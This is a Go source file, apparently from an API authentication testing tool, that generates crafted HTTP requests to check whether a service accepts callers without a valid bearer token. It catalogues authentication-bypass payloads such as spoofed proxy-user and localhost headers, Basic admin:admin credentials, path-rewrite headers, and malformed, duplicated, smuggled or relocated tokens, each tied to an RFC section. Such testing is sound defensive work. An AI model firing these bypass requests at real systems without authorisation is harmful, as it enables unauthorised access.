package attack

import (
	"strings"

	"github.com/sallyport-go/sallyport/internal/forgeries"
)

// credentials returns the calls without a token, and with what is none. The first is the one without anything.
func (c *campaign) credentials() (out []attempt) {
	add := func(name string, lines ...string) {
		out = append(out, attempt{
			name: "credentials: " + name, requests: []request{c.target.good(lines...)}, odd: strings.Contains(strings.Join(lines, ""), "\x00"),
			note: forgeries.Note{Group: credentialGroup, Level: forgeries.Hole, Section: "RFC 6750 3", What: "anybody gets in, without a token"},
		})
	}
	add("none")
	add("an empty Authorization header", "Authorization:")
	add("a scheme alone", "Authorization: Bearer")
	add("a scheme and a space", "Authorization: Bearer ")
	for _, word := range []string{"null", "undefined", "[object Object]", "true", "{}", "%00", "a.b.c", "..", "\x00"} {
		add("the word "+shown(word), bearer(word))
	}
	add("Basic, of admin", "Authorization: Basic YWRtaW46YWRtaW4=")
	add("Negotiate", "Authorization: Negotiate YII=")
	add("a user whom a proxy would name", "X-Remote-User: admin", "X-Forwarded-User: admin", "X-User: admin", "Remote-User: admin", "X-Auth-Request-User: admin")
	add("a client that says it is local", "X-Forwarded-For: 127.0.0.1", "X-Real-IP: 127.0.0.1", "Forwarded: for=127.0.0.1", "X-Client-IP: 127.0.0.1", "True-Client-IP: 127.0.0.1")
	add("claims in a header", `X-JWT-Payload: {"sub":"admin"}`, "X-Userinfo: eyJzdWIiOiJhZG1pbiJ9", "X-Endpoint-API-UserInfo: eyJzdWIiOiJhZG1pbiJ9", "X-Apigateway-Api-Userinfo: eyJzdWIiOiJhZG1pbiJ9")
	add("a certificate in a header", "X-Client-Cert: x", "X-Forwarded-Client-Cert: Hash=x", "X-SSL-Client-Verify: SUCCESS")
	for _, name := range []string{"X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"} {
		add("a header that calls the method OPTIONS, "+name, name+": OPTIONS")
	}
	add("a preflight that is none", "Origin: https://other.example", "Access-Control-Request-Method: GET")
	add("a header that names a public path", "X-Original-URL: /", "X-Rewrite-URL: /", "X-Forwarded-Uri: /", "X-Original-Uri: /")
	add("an upgrade", "Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==")
	out = append(out, c.behindGood())
	return out
}

func shown(word string) string {
	if word == "\x00" {
		return "NUL"
	}
	return word
}

// behindGood is a request without a token on a connection that brought a good one.
func (c *campaign) behindGood() attempt {
	good := c.target.good(bearer(c.iss.Token(c.options()...)))
	return attempt{
		name: "credentials: none, behind a good token on the same connection", requests: []request{good, c.target.good()}, odd: true,
		note: forgeries.Note{Group: credentialGroup, Level: forgeries.Hole, Section: "RFC 9110 3.3", What: "who shares a proxy's connection with somebody is taken for them"},
	}
}

// shapes returns a good token where, or as, no token may be. Who has it could get in anyway.
func (c *campaign) shapes() (out []attempt) {
	token := c.iss.Token(c.options()...)
	good, bad := bearer(token), bearer("not.a.token")
	add := func(name, section, what string, lines ...string) {
		out = append(out, attempt{
			name: "request: " + name, requests: []request{c.target.good(lines...)}, odd: true,
			note: forgeries.Note{Group: requestGroup, Level: forgeries.Leniency, Section: section, What: what},
		})
	}
	const two = "two parts of a system may take two callers for the one: a proxy checks the first token and the API the second"
	add("two Authorization headers, the same token", "RFC 9110 5.3", two, good, good)
	add("two Authorization headers, the good token first", "RFC 9110 5.3", two, good, bad)
	add("two Authorization headers, the good token last", "RFC 9110 5.3", two, bad, good)
	add("two Authorization headers, Basic first", "RFC 9110 5.3", two, "Authorization: Basic YWRtaW46YWRtaW4=", good)
	add("two Authorization headers, Basic last", "RFC 9110 5.3", two, good, "Authorization: Basic YWRtaW46YWRtaW4=")
	add("two Authorization headers, an empty one first", "RFC 9110 5.3", two, "Authorization:", good)
	add("two Authorization headers in different letters", "RFC 9110 5.3", two, good, "AUTHORIZATION: Bearer not.a.token")
	add("two tokens with a comma in one line", "RFC 6750 2.1", two, good+", Bearer not.a.token")
	add("two tokens with a space in one line", "RFC 6750 2.1", two, good+" not.a.token")
	const form = "a token has several forms, and what filters or logs requests knows one of them"
	add("no scheme", "RFC 6750 2.1", form, "Authorization: "+token)
	add("the scheme Token", "RFC 6750 2.1", form, "Authorization: Token "+token)
	add("the scheme JWT", "RFC 6750 2.1", form, "Authorization: JWT "+token)
	add("the scheme Basic", "RFC 6750 2.1", form, "Authorization: Basic "+token)
	add("the scheme DPoP without a proof", "RFC 9449 7.1", form, "Authorization: DPoP "+token)
	add("the scheme twice", "RFC 6750 2.1", form, "Authorization: Bearer "+good[len("Authorization: "):])
	add("the scheme and no space", "RFC 6750 2.1", form, "Authorization: Bearer"+token)
	add("the scheme and a colon", "RFC 6750 2.1", form, "Authorization: Bearer: "+token)
	add("a tab behind the scheme", "RFC 9110 11.4", form, "Authorization: Bearer\t"+token)
	add("the token in quotes", "RFC 6750 2.1", form, `Authorization: Bearer "`+token+`"`)
	add("the token as a parameter", "RFC 6750 2.1", form, `Authorization: Bearer token="`+token+`"`)
	add("a comma behind", "RFC 6750 2.1", form, good+",")
	add("a parameter behind", "RFC 6750 2.1", form, good+", realm=x")
	add("a NUL behind", "RFC 9110 5.5", form, good+"\x00")
	add("a control character behind", "RFC 9110 5.5", form, good+"\x01")
	add("a space before the colon", "RFC 9112 5.1", "a proxy may read other headers than the API does", "Authorization : Bearer "+token)
	add("a token that is folded over two lines", "RFC 9112 5.2", "a proxy may read other headers than the API does", "Authorization: Bearer "+token[:20]+"\r\n "+token[20:])
	const other = "a token counts that no rule about the Authorization header sees: caches, logs and proxies take it for ordinary"
	add("the token in Proxy-Authorization", "RFC 9110 11.7.2", other, "Proxy-Authorization: Bearer "+token)
	add("the token in X-Forwarded-Access-Token", "RFC 6750 2", other, "X-Forwarded-Access-Token: "+token)
	add("an underscore in the header's name", "RFC 6750 2", other, "Auth_orization: Bearer "+token)
	out = append(out, c.inQuery(token), c.inTrailer(good))
	return out
}

func (c *campaign) inQuery(token string) attempt {
	r := c.target.good()
	mark := "?"
	if strings.Contains(r.target, "?") {
		mark = "&"
	}
	r.target += mark + "access_token=" + token
	return attempt{name: "request: the token in the query", requests: []request{r}, odd: true, note: forgeries.Note{
		Group: requestGroup, Level: forgeries.Leniency, Section: "RFC 9700 4.3.2", What: "tokens end up in logs, histories and Referer headers, where others find them",
	}}
}

func (c *campaign) inTrailer(line string) attempt {
	r := c.target.good("Transfer-Encoding: chunked", "Trailer: Authorization")
	r.body = "0\r\n" + line + "\r\n\r\n"
	return attempt{name: "request: the token in the trailer", requests: []request{r}, odd: true, note: forgeries.Note{
		Group: requestGroup, Level: forgeries.Leniency, Section: "RFC 9110 6.5.1", What: "a token counts that no proxy looked for, behind the body",
	}}
}
